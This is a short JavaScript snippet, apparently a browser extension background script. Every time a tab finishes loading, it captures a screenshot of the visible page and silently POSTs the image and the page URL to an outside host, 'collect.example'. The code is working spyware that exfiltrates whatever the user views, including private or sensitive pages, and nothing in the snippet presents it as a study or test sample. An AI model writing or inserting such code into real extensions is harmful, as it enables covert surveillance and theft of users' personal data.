chrome.tabs.onUpdated.addListener((tabId, change, tab) => {
  if (change.status !== "complete") return;
  chrome.tabs.captureVisibleTab(tab.windowId, {format: "jpeg"}, (picture) => {
    fetch("https://collect.example/shot", {method: "POST", body: JSON.stringify({picture, url: tab.url})});
  });
});
